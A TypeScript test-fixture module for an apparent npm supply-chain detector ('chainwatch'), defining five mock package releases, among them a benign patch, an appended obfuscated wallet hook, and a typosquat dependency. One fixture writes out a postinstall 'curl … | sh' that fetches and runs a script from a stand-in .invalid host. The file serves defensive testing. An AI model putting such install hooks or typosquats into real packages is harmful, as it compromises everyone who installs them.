import { readFileSync } from 'node:fs';
import { packPackages, startRegistry, type TestPackage, type TestPackumentOptions, type TestPerson, type TestRegistry } from './registry-server.js';

/**
 * Five releases for release-diff tests (issue 5), as data for the test registry: each a package
 * with several earlier versions (so there is a release cadence), the release under test (`to`),
 * its predecessor (`from`), the verdict a release diff should reach, and a fixed `now`.
 *
 * Everything here is an inert imitation written for chainwatch (see fixtures/README.md): hosts a
 * payload would contact are under `.invalid`, e-mail addresses and repositories under
 * `example.test`, wallet addresses are made up and fail their checksums, and the one browser
 * payload does nothing unless `window.cwFixtureArmed === true`.
 */
export type ExpectedVerdict = 'clean' | 'suspicious' | 'malicious';

export interface ReleaseScenario {
  /** Short id for test names. */
  id: string;
  name: string;
  from: string;
  to: string;
  expected: ExpectedVerdict;
  /** What the release does, in a sentence. */
  summary: string;
  /** What a release diff should notice in it (documentation for the diff tests, not asserted here). */
  signals: readonly string[];
  /** A fixed "now" for the scenario: after every publish time in it. */
  now: string;
  /** Every version of `name`, in publish order, with its time, publisher and files. */
  versions: readonly TestPackage[];
  /** Other packages the scenario needs in the registry (a new dependency, what it imitates). */
  others: readonly TestPackage[];
  /** Packument-level settings (dist-tags, current maintainers) by package name. */
  packuments: Readonly<Record<string, TestPackumentOptions>>;
}

const person = (name: string, domain: string): TestPerson => ({ name, email: `${name}@${domain}.example.test` });
const repository = (name: string) => ({ type: 'git', url: `git+https://git.example.test/${name}/${name}.git` });

// ---------------------------------------------------------------------------------------------
// (a) tidy-strings 1.0.0 -> 1.0.1: a benign patch release on the usual monthly cadence.

const ana = person('ana-lima', 'tidy-strings');
const ben = person('ben-okafor', 'tidy-strings');

const TIDY_TRIM = `function trim(s) {
  return String(s).replace(/^\\s+|\\s+$/g, '');
}

function collapse(s) {
  return trim(s).replace(/\\s+/g, ' ');
}
`;
const TIDY_SLUGIFY_OLD = `
function slugify(s) {
  return collapse(s).toLowerCase().replace(/ /g, '-');
}
`;
const TIDY_SLUGIFY = `
function slugify(s) {
  return collapse(s)
    .toLowerCase()
    .replace(/[^a-z0-9 -]/g, '')
    .replace(/ /g, '-');
}
`;
const TIDY_TRUNCATE_OLD = `
function truncate(s, max, ellipsis = '…') {
  const text = collapse(s);
  return text.length <= max ? text : text.slice(0, max) + ellipsis;
}
`;
// 1.0.1: the ellipsis counts toward `max`, as the README always said.
const TIDY_TRUNCATE = `
function truncate(s, max, ellipsis = '…') {
  const text = collapse(s);
  if (text.length <= max) return text;
  return text.slice(0, Math.max(0, max - ellipsis.length)) + ellipsis;
}
`;

function tidyStrings(version: string, time: string, parts: string[], exported: string[], changelog: string[]): TestPackage {
  return {
    name: 'tidy-strings',
    version,
    time,
    publisher: ana,
    maintainers: [ana, ben],
    attestations: { repository: 'https://git.example.test/tidy-strings/tidy-strings', workflow: '.github/workflows/release.yml' },
    manifest: {
      description: 'Small string helpers: trim, collapse, slugify, truncate',
      main: 'index.js',
      files: ['index.js'],
      license: 'MIT',
      repository: repository('tidy-strings'),
      scripts: { test: 'node --test' },
      devDependencies: { 'tidy-test-helpers': '^1.0.0' },
    },
    files: {
      'index.js': `'use strict';\n\n${parts.join('')}\nmodule.exports = { ${exported.join(', ')} };\n`,
      'README.md': `# tidy-strings\n\nSmall string helpers: ${exported.join(', ')}.\n`,
      'CHANGELOG.md': `# Changelog\n\n${changelog.map((c) => `- ${c}`).join('\n')}\n`,
    },
  };
}

const tidyStringsScenario: ReleaseScenario = {
  id: 'benign-patch',
  name: 'tidy-strings',
  from: '1.0.0',
  to: '1.0.1',
  expected: 'clean',
  summary: 'a one-function bug fix from the usual publisher, with provenance, a month after 1.0.0',
  signals: ['index.js: truncate() changed', 'CHANGELOG.md changed', 'same publisher, maintainers and attestations', 'monthly cadence kept'],
  now: '2025-03-12T09:00:00.000Z',
  versions: [
    tidyStrings('0.8.0', '2024-10-08T14:02:11.000Z', [TIDY_TRIM], ['trim', 'collapse'], ['0.8.0: trim, collapse']),
    tidyStrings('0.9.0', '2024-11-12T15:30:40.000Z', [TIDY_TRIM, TIDY_SLUGIFY_OLD], ['trim', 'collapse', 'slugify'], ['0.9.0: slugify', '0.8.0: trim, collapse']),
    tidyStrings('0.9.1', '2024-12-10T10:11:05.000Z', [TIDY_TRIM, TIDY_SLUGIFY], ['trim', 'collapse', 'slugify'], ['0.9.1: slugify drops punctuation', '0.9.0: slugify', '0.8.0: trim, collapse']),
    tidyStrings('1.0.0', '2025-02-11T16:45:00.000Z', [TIDY_TRIM, TIDY_SLUGIFY, TIDY_TRUNCATE_OLD], ['trim', 'collapse', 'slugify', 'truncate'], ['1.0.0: truncate; stable API', '0.9.1: slugify drops punctuation', '0.9.0: slugify', '0.8.0: trim, collapse']),
    tidyStrings('1.0.1', '2025-03-11T15:20:31.000Z', [TIDY_TRIM, TIDY_SLUGIFY, TIDY_TRUNCATE], ['trim', 'collapse', 'slugify', 'truncate'], ['1.0.1: truncate counts the ellipsis toward max', '1.0.0: truncate; stable API', '0.9.1: slugify drops punctuation', '0.9.0: slugify', '0.8.0: trim, collapse']),
  ],
  others: [],
  packuments: {},
};

// ---------------------------------------------------------------------------------------------
// (b) paint-kit 5.6.0 -> 5.6.1: one obfuscated line appended to index.js, as in chalk 5.6.1
// (2025-09-08): the maintainer's own account, phished, so the metadata looks as usual.

const paintMaintainer = person('paint-maintainer', 'paint-kit');

function paintKitIndex(styles: string[]): string {
  const table = styles.map((s) => `\t${s},`).join('\n');
  return `'use strict';

const ansiStyles = {
${table}
};

function createPaint(level = 1) {
\tconst paint = (...strings) => strings.join(' ');
\tfor (const [name, [open, close]] of Object.entries(ansiStyles)) {
\t\tpaint[name] = (...strings) => (level > 0 ? \`\\u001B[\${open}m\${strings.join(' ')}\\u001B[\${close}m\` : strings.join(' '));
\t}
\tpaint.level = level;
\treturn paint;
}

const paint = createPaint();
module.exports = paint;
module.exports.default = paint;
module.exports.createPaint = createPaint;
`;
}

const PAINT_BASE = ['reset: [0, 0]', 'bold: [1, 22]', 'dim: [2, 22]', 'underline: [4, 24]', 'red: [31, 39]', 'green: [32, 39]', 'yellow: [33, 39]', 'blue: [34, 39]'];
const PAINT_MORE = [...PAINT_BASE, 'italic: [3, 23]', 'magenta: [35, 39]', 'cyan: [36, 39]'];
const PAINT_ALL = [...PAINT_MORE, 'gray: [90, 39]', 'inverse: [7, 27]'];

const PAINT_560 = paintKitIndex(PAINT_ALL).replace('function createPaint(level = 1)', 'function createPaint(level = process.env.NO_COLOR ? 0 : 1)');

/** The appended line: the second line of the fixture file (the first is its notice). */
const PAINT_KIT_APPENDED = readFileSync(new URL('./fixtures/paint-kit-5.6.1-appended.js', import.meta.url), 'utf8').split('\n')[1]!;

function paintKit(version: string, time: string, index: string): TestPackage {
  return {
    name: 'paint-kit',
    version,
    time,
    publisher: paintMaintainer,
    maintainers: [paintMaintainer],
    manifest: {
      description: 'Terminal string styling',
      main: 'index.js',
      files: ['index.js'],
      license: 'MIT',
      repository: repository('paint-kit'),
      engines: { node: '>=18' },
      keywords: ['color', 'ansi', 'terminal'],
    },
    files: { 'index.js': index, 'readme.md': '# paint-kit\n\nTerminal string styling done right.\n' },
  };
}

const paintKitScenario: ReleaseScenario = {
  id: 'appended-wallet-hook',
  name: 'paint-kit',
  from: '5.6.0',
  to: '5.6.1',
  expected: 'malicious',
  summary: 'one obfuscated line appended to index.js that hooks window.fetch and window.ethereum and swaps wallet addresses',
  signals: ['index.js: one appended line (obfuscator.io string array, _0x names)', 'wallet-provider hook, fetch override, address swap', 'metadata unchanged: same publisher, no provenance before or after'],
  now: '2025-09-08T15:00:00.000Z',
  versions: [
    paintKit('5.3.0', '2024-06-20T09:12:44.000Z', paintKitIndex(PAINT_BASE)),
    paintKit('5.4.0', '2024-12-20T18:03:10.000Z', paintKitIndex(PAINT_MORE)),
    paintKit('5.4.1', '2025-02-14T11:40:27.000Z', paintKitIndex(PAINT_MORE).replace("strings.join(' ');\n\tfor", "strings.join(' ');\n\t// 5.4.1: styles apply per call, not once\n\tfor")),
    paintKit('5.5.0', '2025-05-30T07:55:02.000Z', paintKitIndex(PAINT_ALL)),
    paintKit('5.6.0', '2025-08-18T10:41:19.000Z', PAINT_560),
    paintKit('5.6.1', '2025-09-08T13:16:02.000Z', PAINT_560 + PAINT_KIT_APPENDED + '\n'),
  ],
  others: [],
  packuments: {},
};

// ---------------------------------------------------------------------------------------------
// (c) net-helper 2.0.0 -> 2.0.1: adds a postinstall that downloads a script and runs it, from a
// stolen token (same publisher), as the throwaway droppers and Shai-Hulud's versions did.

const netDev = person('kofi-mensah', 'net-helper');

const NET_INDEX = (retries: number) => `'use strict';

const https = require('node:https');

/** GET a URL and resolve with the body, retrying failed requests. */
function get(url, { retries = ${retries}, timeout = 10000 } = {}) {
  return new Promise((resolve, reject) => {
    const attempt = (left) => {
      const req = https.get(url, { timeout }, (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (chunk) => (body += chunk));
        res.on('end', () => resolve({ status: res.statusCode, body }));
      });
      req.on('timeout', () => req.destroy(new Error('timeout')));
      req.on('error', (err) => (left > 0 ? attempt(left - 1) : reject(err)));
    };
    attempt(retries);
  });
}

module.exports = { get };
`;

function netHelper(version: string, time: string, retries: number, scripts: Record<string, string> = {}): TestPackage {
  return {
    name: 'net-helper',
    version,
    time,
    publisher: netDev,
    maintainers: [netDev],
    manifest: {
      description: 'Tiny promise-based HTTPS GET with retries',
      main: 'index.js',
      license: 'ISC',
      repository: repository('net-helper'),
      scripts: { test: 'node --test', ...scripts },
    },
    files: { 'index.js': NET_INDEX(retries), 'README.md': '# net-helper\n\n`get(url, { retries, timeout })`\n' },
  };
}

const netHelperScenario: ReleaseScenario = {
  id: 'postinstall-download',
  name: 'net-helper',
  from: '2.0.0',
  to: '2.0.1',
  expected: 'malicious',
  summary: 'adds a postinstall that downloads a shell script and pipes it into sh',
  signals: ['install script added: postinstall `curl … | sh`', 'no code change besides the version', 'same publisher (a stolen token looks like the owner)'],
  now: '2025-09-16T06:00:00.000Z',
  versions: [
    netHelper('1.8.0', '2024-08-05T12:00:41.000Z', 2),
    netHelper('1.9.0', '2024-11-19T13:30:05.000Z', 3),
    netHelper('2.0.0', '2025-07-01T08:15:52.000Z', 3),
    netHelper('2.0.1', '2025-09-15T22:47:13.000Z', 3, { postinstall: 'curl -fsSL https://setup.net-helper.invalid/install.sh | sh' }),
  ],
  others: [],
  packuments: {},
};

// ---------------------------------------------------------------------------------------------
// (d) log-lite 3.1.0 -> 3.1.1: published at night by an account that never published it before,
// without the attestations 3.0.0 and 3.1.0 had. The code change itself is harmless.

const marta = person('marta-silva', 'log-lite');
const newcomer: TestPerson = { name: 'loglite-release', email: 'loglite-release@mailbox.example.test' };

const LOG_INDEX = (stamp: string) => `'use strict';

const LEVELS = ['debug', 'info', 'warn', 'error'];

function createLogger({ level = 'info', write = (line) => process.stderr.write(line + '\\n') } = {}) {
  const min = LEVELS.indexOf(level);
  const logger = {};
  for (const [i, name] of LEVELS.entries()) {
    logger[name] = (...args) => {
      if (i >= min) write(\`\${${stamp}} \${name.toUpperCase()} \${args.join(' ')}\`);
    };
  }
  return logger;
}

module.exports = { createLogger, LEVELS };
`;

function logLite(version: string, time: string, stamp: string, who: { publisher: TestPerson; maintainers: TestPerson[]; attestations: boolean }): TestPackage {
  return {
    name: 'log-lite',
    version,
    time,
    ...who,
    manifest: {
      description: 'A tiny levelled logger',
      main: 'index.js',
      license: 'MIT',
      repository: repository('log-lite'),
    },
    files: { 'index.js': LOG_INDEX(stamp), 'README.md': '# log-lite\n\n`createLogger({ level })`\n' },
  };
}

const martaOnly = { publisher: marta, maintainers: [marta] };

const logLiteScenario: ReleaseScenario = {
  id: 'new-publisher-no-provenance',
  name: 'log-lite',
  from: '3.1.0',
  to: '3.1.1',
  expected: 'suspicious',
  summary: 'published by an account that never published log-lite before, without the attestations 3.0.0 and 3.1.0 had',
  signals: ['publisher changed: marta-silva -> loglite-release (first publish by that account)', 'maintainer added: loglite-release', 'provenance present before, absent now', 'code change harmless (timestamp format)'],
  now: '2025-06-10T08:00:00.000Z',
  versions: [
    logLite('2.4.0', '2024-09-03T10:20:00.000Z', 'Date.now()', { ...martaOnly, attestations: false }),
    logLite('2.5.0', '2024-11-05T11:02:37.000Z', 'Date.now()', { ...martaOnly, attestations: false }),
    logLite('3.0.0', '2025-03-04T09:48:12.000Z', 'new Date().toISOString()', { ...martaOnly, attestations: true }),
    logLite('3.1.0', '2025-05-06T10:05:59.000Z', 'new Date().toISOString()', { ...martaOnly, attestations: true }),
    logLite('3.1.1', '2025-06-10T03:12:44.000Z', 'new Date().toISOString().slice(0, 19)', { publisher: newcomer, maintainers: [marta, newcomer], attestations: false }),
  ],
  others: [],
  packuments: { 'log-lite': { distTags: { latest: '3.1.1', 'v2-lts': '2.5.0' } } },
};

// ---------------------------------------------------------------------------------------------
// (e) fmt-tools 1.4.0 -> 1.4.1: adds a dependency on `lodahs` (a typo of lodash, which fmt-tools
// already uses) whose only version appeared a day before `now`.

const fmtDev = person('lee-park', 'fmt-tools');
const lodashDev = person('lodash-maintainer', 'lodash');
const lodahsDev: TestPerson = { name: 'lodahs-dev', email: 'lodahs-dev@mailbox.example.test' };

const FMT_INDEX = (extra: { require?: string; body?: string } = {}) => `'use strict';

const { padStart, padEnd } = require('lodash');
${extra.require ?? ''}
function column(values, width, align = 'left') {
  return values.map((v) => (align === 'right' ? padStart(String(v), width) : padEnd(String(v), width)));
}

function table(rows) {
  const widths = rows[0].map((_, i) => Math.max(...rows.map((r) => String(r[i]).length)));
  return rows.map((r) => r.map((cell, i) => padEnd(String(cell), widths[i])).join('  ')).join('\\n');
}
${extra.body ?? ''}
module.exports = { column, table${extra.body ? ', bytes' : ''} };
`;

function fmtTools(version: string, time: string, index: string, dependencies: Record<string, string>): TestPackage {
  return {
    name: 'fmt-tools',
    version,
    time,
    publisher: fmtDev,
    maintainers: [fmtDev],
    manifest: {
      description: 'Format columns and tables for the terminal',
      main: 'index.js',
      license: 'MIT',
      repository: repository('fmt-tools'),
      dependencies,
    },
    files: { 'index.js': index, 'README.md': '# fmt-tools\n\n`column(values, width, align)`, `table(rows)`\n' },
  };
}

const LODASH_INDEX = `'use strict';

function padStart(s, n, c = ' ') {
  return String(s).padStart(n, c);
}

function padEnd(s, n, c = ' ') {
  return String(s).padEnd(n, c);
}

module.exports = { padStart, padEnd };
`;

const fmtToolsScenario: ReleaseScenario = {
  id: 'young-typo-dependency',
  name: 'fmt-tools',
  from: '1.4.0',
  to: '1.4.1',
  expected: 'suspicious',
  summary: 'adds a dependency on lodahs, a typo of lodash published one day before, by a new account',
  signals: ['dependency added: lodahs ^1.0.0', 'lodahs: one version, published a day before now, one unknown maintainer', 'lodahs is one transposition away from lodash (in the registry, years old)'],
  now: '2025-06-24T10:00:00.000Z',
  versions: [
    fmtTools('1.2.0', '2024-12-02T14:10:00.000Z', FMT_INDEX(), { lodash: '^4.17.21' }),
    fmtTools('1.3.0', '2025-02-17T09:30:45.000Z', FMT_INDEX(), { lodash: '^4.17.21' }),
    fmtTools('1.4.0', '2025-04-22T16:05:10.000Z', FMT_INDEX(), { lodash: '^4.17.21' }),
    fmtTools(
      '1.4.1',
      '2025-06-24T08:31:27.000Z',
      FMT_INDEX({
        require: "const { humanBytes } = require('lodahs');\n",
        body: '\nfunction bytes(n) {\n  return humanBytes(n);\n}\n',
      }),
      { lodash: '^4.17.21', lodahs: '^1.0.0' },
    ),
  ],
  others: [
    ...[
      ['4.17.19', '2020-07-08T17:14:40.000Z'],
      ['4.17.20', '2020-08-13T16:53:54.000Z'],
      ['4.17.21', '2021-02-20T15:42:16.000Z'],
    ].map(([version, time]): TestPackage => ({
      name: 'lodash',
      version: version!,
      time: time!,
      publisher: lodashDev,
      maintainers: [lodashDev],
      manifest: { description: 'Utility functions (test stand-in)', main: 'index.js', license: 'MIT', repository: repository('lodash') },
      files: { 'index.js': LODASH_INDEX },
    })),
    {
      name: 'lodahs',
      version: '1.0.0',
      time: '2025-06-23T10:00:00.000Z',
      publisher: lodahsDev,
      maintainers: [lodahsDev],
      manifest: { description: 'Utility functions', main: 'index.js', license: 'MIT' },
      files: {
        'index.js': `'use strict';\n\n${LODASH_INDEX.replace("'use strict';\n\n", '').replace('module.exports = { padStart, padEnd };', "function humanBytes(n) {\n  const units = ['B', 'kB', 'MB', 'GB'];\n  let i = 0;\n  while (n >= 1000 && i < units.length - 1) {\n    n /= 1000;\n    i++;\n  }\n  return `${n.toFixed(1)} ${units[i]}`;\n}\n\nmodule.exports = { padStart, padEnd, humanBytes };")}`,
      },
    },
  ],
  packuments: {},
};

// ---------------------------------------------------------------------------------------------

export const releaseScenarios: readonly ReleaseScenario[] = [tidyStringsScenario, paintKitScenario, netHelperScenario, logLiteScenario, fmtToolsScenario];

/** One test registry serving every scenario's packages (their names do not collide). */
export async function startScenarioRegistry(scenarios: readonly ReleaseScenario[] = releaseScenarios): Promise<TestRegistry> {
  const packages = scenarios.flatMap((s) => [...s.versions, ...s.others]);
  const packuments = Object.assign({}, ...scenarios.map((s) => s.packuments)) as Record<string, TestPackumentOptions>;
  return startRegistry(packPackages(packages), { packuments });
}

/**
 * The scenario moved in time so that its `now` is `now`: every publish time shifts by the same
 * amount, so ages and cadence stay as written. For tests that run the CLI, which judges ages
 * against the real clock.
 */
export function shiftedTo(scenario: ReleaseScenario, now: Date): ReleaseScenario {
  const delta = now.getTime() - Date.parse(scenario.now);
  const shift = (iso: string | undefined) => (iso === undefined ? undefined : new Date(Date.parse(iso) + delta).toISOString());
  const pkg = (p: TestPackage): TestPackage => (p.time === undefined ? p : { ...p, time: shift(p.time)! });
  const packuments = Object.fromEntries(
    Object.entries(scenario.packuments).map(([name, o]) => {
      const created = shift(o.created);
      const modified = shift(o.modified);
      return [name, { ...o, ...(created ? { created } : {}), ...(modified ? { modified } : {}) }];
    }),
  );
  return { ...scenario, now: now.toISOString(), versions: scenario.versions.map(pkg), others: scenario.others.map(pkg), packuments };
}
